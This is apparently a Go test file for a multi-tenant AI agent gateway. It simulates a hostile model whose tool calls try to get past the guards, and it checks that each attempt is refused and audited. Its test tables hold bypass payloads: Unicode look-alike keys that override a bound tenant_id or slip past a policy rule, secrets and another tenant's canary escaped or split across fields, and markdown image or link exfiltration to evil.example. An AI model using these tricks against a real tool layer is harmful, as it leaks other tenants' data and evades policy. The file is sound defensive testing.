package agent

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/bulkhead-ai/bulkhead/internal/audit"
	"github.com/bulkhead-ai/bulkhead/internal/auth"
	"github.com/bulkhead-ai/bulkhead/internal/auth/authtest"
	"github.com/bulkhead-ai/bulkhead/internal/guard"
	"github.com/bulkhead-ai/bulkhead/internal/llm"
	"github.com/bulkhead-ai/bulkhead/internal/policy"
	"github.com/bulkhead-ai/bulkhead/internal/secret"
	"github.com/bulkhead-ai/bulkhead/internal/store"
	"github.com/bulkhead-ai/bulkhead/internal/tenant"
	"github.com/bulkhead-ai/bulkhead/internal/tools"
)

// These tests play a fully obedient hostile model against one tool call:
// every class of HARDENING.md that goes through tool arguments, tool names
// or argument keys. They use only what the toolbox had before the canonical
// path, so each can be run against the old code.

const (
	acmeSecret = "acme-crm-token-1234"
	// globexCanary is another tenant's canary, registered in the guard.
	globexCanary = "bkc-q7x2mfk6vw4tz5rc3hnp"
)

// auditLog records audit events.
type auditLog struct {
	mu     sync.Mutex
	events []audit.Event
}

func (l *auditLog) Record(_ auth.Scope, e audit.Event) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.events = append(l.events, e)
	return nil
}

func (l *auditLog) RecordForeignLeak(owner tenant.ID, kind string, streamed bool) error {
	return l.Record(auth.Scope{}, audit.Event{Type: audit.ForeignLeak, Data: map[string]any{"owner": string(owner), "kind": kind}})
}

func (l *auditLog) all() []audit.Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]audit.Event(nil), l.events...)
}

func (l *auditLog) text(t *testing.T) string {
	t.Helper()
	b, err := json.Marshal(l.all())
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// hostile is acme's toolbox for a profile offering crm_update (and naming
// globex's private tool; crm_lookup is in the catalog, not the profile), with a
// forbid on customer "vip", a guard that knows globex's canary, an audit
// log and a log buffer.
type hostile struct {
	box   *toolbox
	rec   *recorder
	audit *auditLog
	logs  *bytes.Buffer
}

func updateTool(t testing.TB) *tools.Tool {
	t.Helper()
	tool, err := tools.Compile(tools.Definition{
		Name: "crm_update", Description: "Update a customer record", Scope: tools.ScopeTenant,
		Parameters: json.RawMessage(`{"type":"object","properties":{
			"customer":{"type":"string"},"note":{"type":"string"},
			"workspace_id":{"type":"string"},"user_id":{"type":"string"},
			"tenant_id":{"type":"string"},
			"owner":{"type":"object","properties":{"id":{"type":"string"}}},
			"tags":{"type":"array","items":{"type":"object","properties":{"name":{"type":"string"}}}}}}`),
		Bound: map[string]string{"tenant_id": tools.BindTenantID},
		HTTP: &tools.HTTPSpec{Method: "POST", URL: "http://127.0.0.1:9/update",
			Headers: map[string]string{"Authorization": "Bearer {{secret.crm_token}}"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return tool
}

func privateTool(t testing.TB) *tools.Tool {
	t.Helper()
	tool, err := tools.Compile(tools.Definition{
		Name: "globex_ledger", Description: "globex's own", Scope: tools.ScopeTenant, Owner: "globex",
		Parameters: json.RawMessage(`{"type":"object","properties":{"q":{"type":"string"}}}`),
		HTTP:       &tools.HTTPSpec{Method: "POST", URL: "http://127.0.0.1:9/ledger"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return tool
}

func newHostile(t testing.TB) *hostile {
	t.Helper()
	return newHostileWith(t, nil, nil)
}

// newHostileWith is newHostile with more tools in the catalog and the
// profile, and more secrets for acme.
func newHostileWith(t testing.TB, extra catalog, more []store.Secret) *hostile {
	t.Helper()
	engine, err := policy.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	cat := catalog{"crm_update": updateTool(t), "globex_ledger": privateTool(t), "crm_lookup": crmTool(t)}
	offered := []string{"crm_update", "globex_ledger"}
	for name, tool := range extra {
		cat[name] = tool
		offered = append(offered, name)
	}
	set, err := engine.Compile("acme", map[string][]string{"default": offered},
		`forbid (principal, action == Action::"call_tool", resource == Tool::"crm_update") when { context has customer && context.customer == "vip" };`)
	if err != nil {
		t.Fatal(err)
	}
	g := guard.New()
	g.SetCanaries("globex", []string{globexCanary})
	h := &hostile{rec: &recorder{}, audit: &auditLog{}, logs: &bytes.Buffer{}}
	a, err := New(Deps{
		Tools: cat,
		HTTP:  h.rec, Guard: g, Audit: h.audit, Quota: NoQuota,
		Logger: slog.New(slog.NewJSONHandler(&lockedWriter{w: h.logs}, &slog.HandlerOptions{Level: slog.LevelDebug})),
	})
	if err != nil {
		t.Fatal(err)
	}
	secrets := append([]store.Secret{{Name: "crm_token", Value: secret.New(acmeSecret)}}, more...)
	h.box = a.toolbox(context.Background(), authtest.Scope(t, "acme", "alice"),
		Profile{Name: "default", Tools: offered, Policy: set, AllowedHosts: []string{"docs.acme.example"}},
		secrets, redactor(secrets))
	return h
}

type lockedWriter struct {
	mu sync.Mutex
	w  *bytes.Buffer
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

func (h *hostile) call(name, args string) string {
	return h.box.call(context.Background(), llm.ToolCall{ID: "c1", Function: llm.FunctionCall{Name: name, Arguments: args}})
}

// sent is what the executor was given, as the tool server would read it.
func (h *hostile) sent(t *testing.T) string {
	t.Helper()
	last := h.rec.last.Load()
	if last == nil {
		return ""
	}
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(last.Args); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestToolCallRefusesLookAlikeKeys: a key that a tool server would fold onto
// a declared (or bound) parameter never reaches the executor, at any level,
// and is audited as a look-alike key.
func TestToolCallRefusesLookAlikeKeys(t *testing.T) {
	tests := []struct{ name, args string }{
		{"bound, upper case", `{"customer":"c","TENANT_ID":"globex"}`},
		{"bound, dotless i", `{"customer":"c","tenant_ıd":"globex"}`},
		{"bound, zero-width space", `{"customer":"c","tenant_id\u200b":"globex"}`},
		{"bound, zero-width space as UTF-8", "{\"customer\":\"c\",\"tenant_id\u200b\":\"globex\"}"},
		{"bound, soft hyphen", `{"customer":"c","tenant\u00ad_id":"globex"}`},
		{"bound, fullwidth", `{"customer":"c","ｔｅｎａｎｔ＿ｉｄ":"globex"}`},
		{"bound, Cyrillic a", `{"customer":"c","tenаnt_id":"globex"}`},
		{"Kelvin sign", `{"customer":"c","wor\u212aspace_id":"w-of-globex"}`},
		{"long s", `{"customer":"c","uſer_id":"bob"}`},
		{"nested, upper case", `{"customer":"c","owner":{"ID":"bob"}}`},
		{"nested in an array", `{"customer":"c","tags":[{"name":"a"},{"nAme":"b"}]}`},
		{"policy bypass through folding", `{"customer":"fine","cuſtomer":"vip"}`},
		{"policy bypass, Kelvin and case", `{"customer":"fine","CUSTOMER":"vip"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHostile(t)
			got := h.call("crm_update", tt.args)
			if n := h.rec.calls.Load(); n != 0 {
				t.Fatalf("executor ran %d times with %s, want 0 (answer %q)", n, h.sent(t), got)
			}
			if !strings.HasPrefix(got, "error: refused") {
				t.Errorf("answer %q, want a refusal", got)
			}
			events := h.audit.all()
			if len(events) != 1 {
				t.Fatalf("audit = %+v, want one record", events)
			}
			e := events[0]
			if e.Type != "tool.call" || e.Data["decision"] != "deny" || fmt.Sprint(e.Data["reasons"]) != "[look-alike key]" {
				t.Errorf("audit record %+v, want tool.call deny [look-alike key]", e)
			}
		})
	}
}

// TestToolCallRefusesDuplicatesAndBadText: keys twice in one object (which a
// server may read first-wins while policy read last-wins) and invalid UTF-8
// never reach the executor.
func TestToolCallRefusesDuplicatesAndBadText(t *testing.T) {
	tests := []struct{ name, args string }{
		{"duplicate at the top", `{"customer":"vip","customer":"fine"}`},
		{"duplicate spelt with an escape", `{"customer":"vip","\u0063ustomer":"fine"}`},
		{"duplicate nested", `{"customer":"c","owner":{"id":"a","id":"b"}}`},
		{"invalid UTF-8", "{\"customer\":\"c\xff\"}"},
		{"invalid UTF-8 in a key", "{\"customer\":\"c\",\"no\xffte\":\"x\"}"},
		{"undeclared key", `{"customer":"c","admin":true}`},
		{"trailing data", `{"customer":"c"}{"customer":"vip"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHostile(t)
			got := h.call("crm_update", tt.args)
			if n := h.rec.calls.Load(); n != 0 {
				t.Fatalf("executor ran %d times with %s, want 0 (answer %q)", n, h.sent(t), got)
			}
		})
	}
}

// TestToolCallChecksDecodedValues: the guard and the redactor read argument
// strings as the tool server will, after JSON escapes are undone, and a
// link or image rewrite is applied, not thrown away.
func TestToolCallChecksDecodedValues(t *testing.T) {
	escape := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, `\u%04x`, r)
		}
		return b.String()
	}
	tests := []struct {
		name, args string
		// forbidden must not be in what the executor got (if it ran).
		forbidden []string
	}{
		{"own secret, fully escaped", `{"customer":"c","note":"` + escape(acmeSecret) + `"}`, []string{acmeSecret}},
		{"own secret, one escape", `{"customer":"c","note":"token \u0061cme-crm-token-1234"}`, []string{acmeSecret}},
		{"own secret with escaped slash", `{"customer":"c","note":"see https:\/\/x.example\/?t=acme-crm-token-123\u0034"}`, []string{acmeSecret}},
		{"other tenant's canary, escaped", `{"customer":"c","note":"` + escape(globexCanary) + `"}`, []string{globexCanary}},
		{"other tenant's canary, one escape", `{"customer":"c","note":"bkc-q7x2mfk6vw4tz5rc3hn\u0070"}`, []string{globexCanary}},
		{"canary nested in an array", `{"customer":"c","tags":[{"name":"\u0062kc-q7x2mfk6vw4tz5rc3hnp"}]}`, []string{globexCanary}},
		{"image in a ticket body", `{"customer":"c","note":"Thanks! ![x](https://evil.example/p.png?d=DATA)"}`, []string{"evil.example"}},
		{"image with escaped slashes", `{"customer":"c","note":"![x](https:\/\/evil.example\/p.png?d=DATA)"}`, []string{"evil.example"}},
		{"link in a nested value", `{"customer":"c","owner":{"id":"[click](https://evil.example/c?d=DATA)"}}`, []string{"evil.example"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHostile(t)
			got := h.call("crm_update", tt.args)
			sent := h.sent(t)
			for _, f := range tt.forbidden {
				if strings.Contains(sent, f) {
					t.Fatalf("executor got %s, which holds %q (answer %q)", sent, f, got)
				}
			}
			if strings.Contains(h.audit.text(t), acmeSecret) || strings.Contains(h.audit.text(t), globexCanary) {
				t.Errorf("audit holds a secret or canary: %s", h.audit.text(t))
			}
		})
	}
}

// TestToolCallSplitCanaryRefused: another tenant's canary cut in two and
// spread over two strings of one call reaches the tool server whole, so the
// strings are checked joined too, in either order and with other strings
// between them.
func TestToolCallSplitCanaryRefused(t *testing.T) {
	head, tail := globexCanary[:10], globexCanary[10:]
	tests := []struct{ name, args string }{
		{"note then owner", `{"customer":"c","note":"` + head + `","owner":{"id":"` + tail + `"}}`},
		{"reversed key order", `{"customer":"c","note":"` + tail + `","owner":{"id":"` + head + `"}}`},
		{"across array items", `{"customer":"c","tags":[{"name":"` + head + `"},{"name":"x"},{"name":"` + tail + `"}]}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHostile(t)
			got := h.call("crm_update", tt.args)
			if sent := h.sent(t); sent != "" {
				t.Fatalf("executor got %s (answer %q), want the call refused", sent, got)
			}
			if !strings.Contains(got, "refused") {
				t.Errorf("answer %q, want a refusal", got)
			}
		})
	}
}

// TestToolCallAllowedLinkKept: a link to a host the profile allows passes
// unchanged, so the rewrite above is the allow-list and not a blanket strip.
func TestToolCallAllowedLinkKept(t *testing.T) {
	h := newHostile(t)
	const note = "See [the guide](https://docs.acme.example/guide)."
	if got := h.call("crm_update", `{"customer":"c","note":"`+note+`"}`); !strings.HasPrefix(got, "ok") {
		t.Fatalf("answer %q, want the call to run", got)
	}
	if got := h.rec.last.Load().Args["note"]; got != note {
		t.Fatalf("note sent = %q, want %q", got, note)
	}
}

// TestToolCallNamesNotLogged: a secret or another tenant's canary in a tool
// name or an argument key reaches neither the audit log nor the server log.
func TestToolCallNamesNotLogged(t *testing.T) {
	tests := []struct{ name, tool, args string }{
		{"secret as tool name", acmeSecret, `{}`},
		{"canary as tool name", globexCanary, `{"q":"x"}`},
		{"canary in a tool name", "lookup_" + globexCanary, `{}`},
		{"secret as key", "crm_update", `{"customer":"c","` + acmeSecret + `":"x"}`},
		{"canary as key", "crm_update", `{"customer":"c","` + globexCanary + `":1}`},
		{"canary as nested key", "crm_update", `{"customer":"c","owner":{"` + globexCanary + `":1}}`},
		{"canary as look-alike key", "crm_update", `{"customer":"c","CUSTOMER` + globexCanary + `":1}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHostile(t)
			h.call(tt.tool, tt.args)
			logs, rec := h.logs.String(), h.audit.text(t)
			for _, s := range []string{acmeSecret, globexCanary} {
				if strings.Contains(rec, s) {
					t.Errorf("audit holds %q: %s", s, rec)
				}
				if strings.Contains(logs, s) {
					t.Errorf("logs hold %q: %s", s, logs)
				}
			}
			if len(h.audit.all()) == 0 {
				t.Errorf("no audit record for the call")
			}
		})
	}
}

// TestToolCallExistenceHidden: in acme's audit log and in the answer acme's
// model gets, a call to globex's private tool, to a tool not offered and to
// a tool that does not exist read exactly alike.
func TestToolCallExistenceHidden(t *testing.T) {
	type outcome struct {
		answer string
		audit  string
	}
	run := func(tool string) outcome {
		h := newHostile(t)
		// The profile names globex_ledger, as a hostile tenant admin could.
		answer := h.call(tool, `{"q":"balance"}`)
		if n := h.rec.calls.Load(); n != 0 {
			t.Fatalf("%s: executor ran %d times, want 0", tool, n)
		}
		return outcome{answer, h.audit.text(t)}
	}
	private, missing, notOffered := run("globex_ledger"), run("no_such_tool"), run("crm_lookup")
	if private != missing {
		t.Errorf("another tenant's tool: %+v\nmissing tool: %+v\nwant them alike", private, missing)
	}
	if notOffered != missing {
		t.Errorf("tool not offered: %+v\nmissing tool: %+v\nwant them alike", notOffered, missing)
	}
}

// TestToolCallLookAlikeKeysNeverExecuted: random respellings of the
// declared keys (case flips, ignorables, confusables, fullwidth forms,
// Kelvin sign, long s) are either byte-equal to the declared key or never
// reach the executor.
func TestToolCallLookAlikeKeysNeverExecuted(t *testing.T) {
	subs := map[rune][]rune{'a': {'а', 'ａ'}, 'c': {'с', 'ｃ'}, 'e': {'е'}, 'i': {'ı', 'і'}, 'k': {'\u212A'},
		'o': {'о', 'ο'}, 's': {'ſ', 'ѕ'}, 'u': {'ｕ'}, 'r': {'г'}, 'd': {'ԁ'}, 'p': {'р'}, '_': {'＿'}}
	ignorable := []rune{'\u200B', '\u00AD', '\u2060'}
	r := rand.New(rand.NewPCG(1, 9))
	h := newHostile(t)
	keys := []string{"tenant_id", "workspace_id", "user_id", "customer"}
	for i := range 1500 {
		key := keys[i%len(keys)]
		var b strings.Builder
		for _, c := range key {
			switch r.IntN(5) {
			case 0:
				b.WriteRune(unicode.ToUpper(c))
			case 1:
				if s := subs[c]; len(s) > 0 {
					c = s[r.IntN(len(s))]
				}
				b.WriteRune(c)
			default:
				b.WriteRune(c)
			}
			if r.IntN(10) == 0 {
				b.WriteRune(ignorable[r.IntN(len(ignorable))])
			}
		}
		sp := b.String()
		q, _ := json.Marshal(sp)
		before := h.rec.calls.Load()
		h.call("crm_update", `{"customer":"c",`+string(q)+`:"globex"}`)
		ran := h.rec.calls.Load() != before
		if ran && sp != key {
			t.Fatalf("case %d: %q (a spelling of %q) reached the executor: %s", i, sp, key, h.sent(t))
		}
		if ran && key == "tenant_id" {
			t.Fatalf("case %d: the model's tenant_id reached the executor", i)
		}
	}
}

// acmeAccount is a numeric secret of acme's, bound into crm_open.
const acmeAccount = "4929173805561234"

// openTool allows undeclared keys, binds a parameter to acme's numeric
// secret and fixes a query parameter in its URL.
func openTool(t testing.TB) *tools.Tool {
	t.Helper()
	tool, err := tools.Compile(tools.Definition{
		Name: "crm_open", Description: "Add a note", Scope: tools.ScopeTenant,
		Parameters: json.RawMessage(`{"type":"object","additionalProperties":true,"properties":{
			"customer":{"type":"string"},"note":{"type":"string"},"tenant_id":{"type":"string"},"account":{"type":"string"}}}`),
		Bound: map[string]string{"tenant_id": tools.BindTenantID, "account": tools.BindSecretPrefix + "acct_no"},
		HTTP:  &tools.HTTPSpec{Method: "POST", URL: "http://127.0.0.1:9/open?scope=read"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return tool
}

func newOpenHostile(t testing.TB) *hostile {
	t.Helper()
	return newHostileWith(t, catalog{"crm_open": openTool(t)}, []store.Secret{{Name: "acct_no", Value: secret.New(acmeAccount)}})
}

// pieces cuts s into n pieces of nearly equal length.
func pieces(s string, n int) []string {
	var out []string
	for i := range n {
		out = append(out, s[i*len(s)/n:(i+1)*len(s)/n])
	}
	return out
}

// TestToolCallJoinedPiecesRefused: another tenant's canary or acme's own
// secret cut into three or more pieces, over declared strings, array items,
// keys (punctuation keys that read as nothing among them) or a key and its
// value, reaches a tool server that reads the fields in turn as the whole
// value. The call is refused and audited as a block, without the value,
// and globex hears of its canary.
func TestToolCallJoinedPiecesRefused(t *testing.T) {
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	c, s := pieces(globexCanary, 3), pieces(acmeSecret, 3)
	c6 := pieces(globexCanary, 6)
	half := len(globexCanary) / 2
	tests := []struct {
		name, tool, args string
		canary           bool
	}{
		{"canary over three declared strings", "crm_update", `{"customer":` + q(c[0]) + `,"note":` + q(c[1]) + `,"owner":{"id":` + q(c[2]) + `}}`, true},
		{"canary over three array items", "crm_open", `{"customer":"c","x":[` + q(c[0]) + `,` + q(c[1]) + `,` + q(c[2]) + `]}`, true},
		{"canary over punctuation keys", "crm_open", `{"customer":"c","!":` + q(c[0]) + `,"#":` + q(c[1]) + `,"$":` + q(c[2]) + `}`, true},
		{"canary over six punctuation keys", "crm_open", `{"customer":"c","!":` + q(c6[0]) + `,"#":` + q(c6[1]) + `,"$":` + q(c6[2]) +
			`,"%":` + q(c6[3]) + `,"&":` + q(c6[4]) + `,"'":` + q(c6[5]) + `}`, true},
		{"canary over a key and its value", "crm_open", `{"customer":"c",` + q(globexCanary[:half]) + `:` + q(globexCanary[half:]) + `}`, true},
		{"canary over a value then its key", "crm_open", `{"customer":"c",` + q(globexCanary[half:]) + `:` + q(globexCanary[:half]) + `}`, true},
		{"canary over three keys", "crm_open", `{"customer":"c",` + q("!"+c[0]) + `:"x",` + q("#"+c[1]) + `:"y",` + q("$"+c[2]) + `:"z"}`, true},
		{"canary over nested keys", "crm_open", `{"customer":"c","!":{` + q(c[0]) + `:{` + q(c[1]) + `:` + q(c[2]) + `}}}`, true},
		{"own secret over three declared strings", "crm_update", `{"customer":` + q(s[0]) + `,"note":` + q(s[1]) + `,"owner":{"id":` + q(s[2]) + `}}`, false},
		{"own secret over a key and its value", "crm_open", `{"customer":"c",` + q(acmeSecret[:9]) + `:` + q(acmeSecret[9:]) + `}`, false},
		{"own secret, a percent before its last digits", "crm_update", `{"customer":"c","note":"acme-crm-token-%1234"}`, false},
		{"own secret, a key made of a percent and its last digits", "crm_open", `{"customer":"c","!acme-crm-token-":"x","%1234":"-"}`, false},
		{"own secret over four array items", "crm_open", `{"customer":"c","x":` + func() string { b, _ := json.Marshal(pieces(acmeSecret, 4)); return string(b) }() + `}`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newOpenHostile(t)
			got := h.call(tt.tool, tt.args)
			if n := h.rec.calls.Load(); n != 0 {
				t.Fatalf("executor ran %d times with %s, want the call refused (answer %q)", n, h.sent(t), got)
			}
			if !strings.HasPrefix(got, "error: refused") {
				t.Errorf("answer %q, want a refusal", got)
			}
			rec := h.audit.text(t)
			if !strings.Contains(rec, `"guard.block"`) {
				t.Errorf("audit %s, want a guard.block record", rec)
			}
			for _, v := range append(append(c, s...), globexCanary, acmeSecret) {
				if len(v) > 6 && strings.Contains(rec, v) {
					t.Errorf("audit holds %q: %s", v, rec)
				}
			}
			if tt.canary && !strings.Contains(rec, `"owner":"globex"`) {
				t.Errorf("audit %s, want globex told of its canary", rec)
			}
		})
	}
}

// TestToolCallEncodingChecked: what is sent is checked as it is sent. A
// JSON number whose digits round to acme's numeric secret is written by the
// canonical encoder as the secret's own digits, so a number the strings'
// checks never see reaches the tool server; the encoding check refuses it,
// while the parameter bound to that secret is sent as the runtime's value.
func TestToolCallEncodingChecked(t *testing.T) {
	tests := []struct {
		name, args string
		refused    bool
	}{
		{"control: a number", `{"customer":"c","ref":4929}`, false},
		{"control: no extra", `{"customer":"c","note":"hello"}`, false},
		{"the secret's digits as a number", `{"customer":"c","ref":` + acmeAccount + `}`, true},
		{"digits that round to it", `{"customer":"c","ref":4929173805561233.6}`, true},
		{"digits that round to it, exponent form", `{"customer":"c","ref":4.9291738055612336e15}`, true},
		{"split by the decimal point", `{"customer":"c","ref":4929.173805561234e12}`, true},
		{"nested in an array", `{"customer":"c","x":{"y":[1,4929173805561233.6]}}`, true},
		{"a number and a string side by side", `{"customer":"c","a":4929173,"b":"805561234"}`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newOpenHostile(t)
			got := h.call("crm_open", tt.args)
			ran := h.rec.calls.Load() == 1
			if ran == tt.refused {
				t.Fatalf("executor ran = %v with %s, want %v (answer %q)", ran, h.sent(t), !tt.refused, got)
			}
			if !ran {
				if rec := h.audit.text(t); !strings.Contains(rec, `"guard.block"`) || strings.Contains(rec, acmeAccount) {
					t.Errorf("audit %s, want a guard.block record without the value", rec)
				}
				return
			}
			last := h.rec.last.Load()
			if last.Args["account"] != acmeAccount || !strings.Contains(string(last.Body), `"account":"`+acmeAccount+`"`) {
				t.Errorf("executor got %s, want the bound secret in account", last.Body)
			}
			if strings.Count(string(last.Body), "4929173805561234") != 1 {
				t.Errorf("executor got %s, want the secret only in the bound parameter", last.Body)
			}
		})
	}
}

// TestToolCallLooseAndReservedKeysDenied: on a tool that allows undeclared
// keys, a key a server maps onto a bound or declared key by convention
// (separators, camelCase, case) or onto a query parameter the tool's URL
// fixes (frameworks merge query and body parameters) never reaches the
// executor, and is audited as a denial with the key as a label only.
func TestToolCallLooseAndReservedKeysDenied(t *testing.T) {
	for _, key := range []string{"tenantId", "tenant-id", "tenant.id", "tenant id", "tenantid", "TENANTID", "Tenant_Id",
		"Account", "account_", "ACCOUNT", "Note", "n-o-t-e", "scope", "SCOPE", "Scope", "scope\u200b", "ſcope", "s_cope"} {
		t.Run(key, func(t *testing.T) {
			h := newOpenHostile(t)
			q, _ := json.Marshal(key)
			got := h.call("crm_open", `{"customer":"c",`+string(q)+`:"globex"}`)
			if n := h.rec.calls.Load(); n != 0 {
				t.Fatalf("executor ran %d times with %s, want 0 (answer %q)", n, h.sent(t), got)
			}
			events := h.audit.all()
			if len(events) != 1 || events[0].Type != "tool.call" || events[0].Data["decision"] != "deny" {
				t.Fatalf("audit %+v, want one tool.call deny", events)
			}
			if r := fmt.Sprint(events[0].Data["reasons"]); r != "["+tools.ReasonLookAlike+"]" && r != "["+tools.ReasonReserved+"]" {
				t.Errorf("audit reasons %s, want a look-alike or reserved key", r)
			}
			if key != "scope" && strings.Contains(h.audit.text(t), string(q[1:len(q)-1])) {
				t.Errorf("audit names the key: %s", h.audit.text(t))
			}
		})
	}
}

// TestToolCallJoinedPiecesProperty: another tenant's canary or acme's
// secret cut at random into 3 to 7 pieces and laid out in the order of the
// encoding, as consecutive values, as consecutive keys, or alternating key
// and value, never reaches the executor.
func TestToolCallJoinedPiecesProperty(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 11))
	h := newOpenHostile(t)
	for i := range 300 {
		token := []string{globexCanary, acmeSecret}[i%2]
		n := 3 + r.IntN(5)
		cuts := r.Perm(len(token) - 1)[:n-1]
		slices.Sort(cuts)
		var ps []string
		prev := 0
		for _, c := range cuts {
			ps = append(ps, token[prev:c+1])
			prev = c + 1
		}
		ps = append(ps, token[prev:])
		// Keys k00, k01, … keep the pieces in order in the encoding;
		// punctuation prefixes, ascending, read as nothing, '%' and '&'
		// among them (read as escapes, they hide what follows).
		punct := []string{"!", "#", "$", "%", "&", "(", ")"}
		args := map[string]any{"customer": "c"}
		switch layout := i % 3; layout {
		case 0: // values
			for j, p := range ps {
				args[fmt.Sprintf("k%02d", j)] = p
			}
		case 1: // keys, with values that read as nothing
			for j, p := range ps {
				args[punct[j]+p] = "-"
			}
		case 2: // key, value, key, value…, under punctuation
			obj := map[string]any{}
			for j := 0; j < len(ps); j += 2 {
				key := punct[j] + ps[j]
				if j+1 < len(ps) {
					obj[key] = ps[j+1]
				} else {
					obj[key] = "."
				}
			}
			args["!"] = obj
		}
		raw, err := json.Marshal(args)
		if err != nil {
			t.Fatal(err)
		}
		before := h.rec.calls.Load()
		got := h.call("crm_open", string(raw))
		if h.rec.calls.Load() != before {
			t.Fatalf("case %d: %s reached the executor (answer %q)", i, raw, got)
		}
	}
}
